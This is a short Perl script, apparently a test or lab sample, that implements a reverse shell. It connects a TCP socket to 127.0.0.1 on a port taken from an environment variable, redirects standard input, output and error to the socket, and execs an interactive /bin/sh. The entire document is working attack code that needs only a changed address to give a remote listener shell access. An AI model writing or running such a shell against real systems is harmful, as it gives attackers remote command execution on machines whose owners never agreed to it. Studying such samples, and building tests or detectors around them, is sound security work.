#!/usr/bin/perl
# The same process becomes the shell: connect, three reopened descriptors, exec.
use strict;
use Socket;

socket(my $s, PF_INET, SOCK_STREAM, getprotobyname("tcp")) or die;
connect($s, sockaddr_in($ENV{NJ_PORT}, inet_aton("127.0.0.1"))) or die;
open(STDIN, "<&", $s) or die;
open(STDOUT, ">&", $s) or die;
open(STDERR, ">&", $s) or die;
exec("/bin/sh", "-i");
